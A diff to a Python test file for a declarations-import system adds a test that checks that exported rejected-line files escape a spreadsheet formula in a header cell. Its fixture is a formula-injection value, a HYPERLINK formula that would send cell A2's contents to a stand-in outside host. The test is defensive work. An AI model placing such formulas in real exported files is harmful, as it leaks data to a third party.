@@ -1,10 +1,11 @@
 """Files of declarations through their whole life: looked at, mended, stored, taken back."""
 
+import csv
 import datetime as dt
 import hashlib
 import re
 from datetime import date
-from io import BytesIO
+from io import BytesIO, StringIO
 from zipfile import ZIP_DEFLATED, ZipFile
 
 import pytest
@@ -34,8 +35,9 @@ from data.rights.models import (
 )
 from data.rights.queries import list_imports, receipt, rejected_lines, template_rows
 from data.rights.rules.columns import LABELS, guess
-from data.rights.types import Brought, Delays, LineState, Plan, Purpose, Repair, Undone
+from data.rights.types import Brought, Delays, LineState, Plan, Purpose, Rejects, Repair, Undone
 from data.runs.files import Incoming, folder_of
+from data.runs.files.book import sheets
 from data.runs.types import Limits, RunState
 from jobs import runs as job
 from tests.data.rights import dirty
@@ -270,6 +272,19 @@ def test_rejected_lines_come_back_as_a_file_and_are_deposited_again(desk, as_xls
     desk.act(edit_line, again, bad.line, field=bad.field, text="alice@tilleuls.example")
     assert desk.store(again).counts.accepted == 4
     assert len(desk.rights()) == dirty.LINES
+
+
+@pytest.mark.parametrize("as_xlsx", [True, False])
+def test_a_header_that_a_spreadsheet_would_work_out_is_guarded_as_cells_are(as_xlsx):
+    label = '=HYPERLINK("http://x.example/?"&A2)'
+    content = write_rejects(Rejects((label, "PCE"), as_xlsx, ()), as_xlsx=as_xlsx)
+    assert read_header(content, as_xlsx=as_xlsx) == [f"'{label}", "PCE", "Motif"]
+
+
+def read_header(content, *, as_xlsx):
+    if as_xlsx:
+        return sheets(content)[0][0]
+    return next(csv.reader(StringIO(content.decode("utf-8-sig")), delimiter=";"))
 
 
 def test_columns_are_said_once_and_guessed_afterwards(desk):
